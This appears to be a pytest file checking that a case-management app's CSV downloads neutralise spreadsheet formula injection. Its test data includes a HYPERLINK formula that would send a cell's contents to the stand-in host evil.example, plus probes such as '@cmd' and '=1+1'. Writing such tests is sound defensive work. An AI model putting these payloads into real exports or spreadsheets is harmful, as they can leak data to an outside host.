"""Every CSV the hub gives out goes through one writer (app/core/csv_export.py), and no cell of it can reach a
spreadsheet as a formula: text starting with = + - @, a tab or a carriage return is kept as text by a leading
single quote (OWASP, CSV injection). Numbers the app computes stay numbers, negative ones included.

Each download is tried with a hostile value in the records it reads. The values are put in the database
directly: the forms only take codes for most of these columns, and the writer must not depend on that."""
from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import select, update

from app.audit.operations import record
from app.auth.operations import user_by_username
from app.cases.models import AgencyReturn
from app.core.clock import clock, now
from app.core.config import PROJECT_ROOT
from app.core.csv_export import csv_text, safe_cell
from app.intake.models import Contact
from app.reports import annex_a
from app.sharing.models import SharingDecision
from tests import factories as f
from tests.api.test_referral_walks import complete, report
from tests.concerns.builders import agency_return, contact, days, person
from tests.reports import hand_counted
from tests.reports.hand_counted import AT

HOSTILE = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")"
QUERY = "from=2026-11-01&to=2027-02-28"
WRITER = Path("app/core/csv_export.py")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_neutralised(text: str, hostile: str = HOSTILE) -> None:
    found = cells(text)
    assert "'" + hostile in found, "the hostile value must be in the download, quoted as text"
    assert hostile not in found


def test_no_module_writes_csv_but_the_one_writer():
    """A module that calls csv.writer or csv.DictWriter itself would write cells unchecked."""
    offenders = []
    for path in sorted((PROJECT_ROOT / "app").rglob("*.py")):
        relative = path.relative_to(PROJECT_ROOT)
        if relative == WRITER:
            continue
        for node in ast.walk(ast.parse(path.read_text(), str(relative))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                    and isinstance(node.value, ast.Name) and node.value.id == "csv":
                offenders.append(f"{relative}:{node.lineno}")
            if isinstance(node, ast.ImportFrom) and node.module == "csv" \
                    and {a.name for a in node.names} & {"writer", "DictWriter"}:
                offenders.append(f"{relative}:{node.lineno}")
    assert offenders == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_a_formula_is_kept_as_text(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert cells(csv_text(["a"], [[f"{start}cmd"]]))[1] == f"'{start}cmd"


def test_numbers_stay_numbers_and_ordinary_text_is_untouched():
    text = csv_text(["count", "hours", "change", "note", "empty"], [[3, 2.5, -4, "Police: 2 returns", None]])
    assert text.splitlines()[1] == "3,2.5,-4,Police: 2 returns,"
    assert safe_cell("-4") == "'-4"  # text that looks like a number is still text someone could have typed
    assert safe_cell(True) == "True"


def test_the_audit_download(web, db):
    with db.unit_of_work() as session:
        record(session, user_by_username(session, "admin").as_actor(), "note.test", summary=HOSTILE)
    assert_neutralised(web("auditor").get("/audit?format=csv").get_data(as_text=True))


def test_the_mi_dataset_and_a_report_table(web, db):
    clock.freeze(AT)
    with db.unit_of_work() as session:
        hand_counted.build(session)
        session.execute(update(Contact).values(channel=HOSTILE))
        first = session.scalar(select(AgencyReturn.id).order_by(AgencyReturn.id).limit(1))
        session.execute(update(AgencyReturn).where(AgencyReturn.id == first).values(agency="@cmd"))
    manager = web("mash-manager")
    assert_neutralised(manager.get(f"/reports/mi-dataset.csv?{QUERY}").get_data(as_text=True))
    table = manager.get(f"/reports/agency-responses.csv?{QUERY}").get_data(as_text=True)
    assert_neutralised(table, "@cmd")
    # The counts beside it are numbers, written as numbers.
    assert any(cell.isdigit() for cell in cells(table))


def test_annex_a_lists():
    """Annex A's cells are all mapped through code lists or dates, so no record can put text in them: the
    list is checked through its writer."""
    text = annex_a.csv_text(1, [["P1", HOSTILE, "@SUM(1)", "01/02/2016", 10, "02/01/2027", "+2A"]])
    assert cells(text)[len(annex_a.LIST_1_COLUMNS):] == [
        "P1", "'" + HOSTILE, "'@SUM(1)", "01/02/2016", "10", "02/01/2027", "'+2A"]


def test_the_sharing_record(web, api, db):
    case_id = report(api)
    complete(api, case_id, "screening", "mash-manager", f.screening("amber", ["police"]))
    with db.unit_of_work() as session:
        session.execute(update(SharingDecision).values(purpose=HOSTILE))
    assert_neutralised(web("auditor").get("/sharing/decisions.csv").get_data(as_text=True))


def test_the_chronology(web, db):
    with db.unit_of_work() as session:
        ava = person(session, "Ava")
        case = contact(session, ava, now() - days(3))
        agency_return(session, case, "=1+1", at=now() - days(2))
    text = web("social-worker").get(f"/people/{ava}/chronology?format=csv").get_data(as_text=True)
    found = cells(text)
    assert "'=1+1" in found and "=1+1" not in found
    assert not [cell for cell in found if cell.startswith(("=", "+", "-", "@"))]
